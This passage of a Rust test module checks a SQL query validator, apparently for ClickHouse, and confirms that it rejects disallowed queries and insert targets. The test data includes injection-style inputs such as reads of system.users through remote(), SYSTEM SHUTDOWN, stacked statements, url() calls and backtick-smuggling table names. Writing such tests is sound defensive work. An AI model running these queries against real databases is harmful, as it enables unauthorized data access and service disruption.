            "SELECT DISTINCT event_id FROM `engagement`.`events_enriched` WHERE event_id IN ({}) \
             FORMAT TabSeparated",
            ids.join(",")
        );
        assert_eq!(check(&sql), Ok(()));
    }

    #[test]
    fn reasons_name_the_problem() {
        let why = |sql: &str| check(sql).expect_err(sql);
        assert!(why("SELECT * FROM system.users").contains("`system`"));
        assert!(why("SELECT * FROM secret.t").contains("not granted"));
        assert!(why("SELECT * FROM users").contains("database.table"));
        assert!(why("SELECT * FROM remote('h', system.users)").contains("remote"));
        assert!(why("SYSTEM SHUTDOWN").contains("cannot parse"));
        assert!(why("SELECT 1; SELECT 2").contains(";"));
        assert!(why("SELECT url('x')").contains("function `url`"));
    }

    #[test]
    fn insert_targets() {
        let g = grant(&["engagement"]);
        assert_eq!(
            check_insert_target(&g, "engagement", "events_enriched"),
            Ok(())
        );
        for (db, table) in [
            ("secret", "t"),
            ("system", "users"),
            ("engagement", "t FORMAT CSV"),
            ("engagement", "t`"),
            ("engagement", ""),
            ("engagement", "1t"),
            ("engagement`.`x", "t"),
        ] {
            assert!(check_insert_target(&g, db, table).is_err(), "{db}.{table}");
        }
        // Not even when granted by mistake.
        assert!(check_insert_target(&grant(&["system"]), "system", "t").is_err());
    }
}
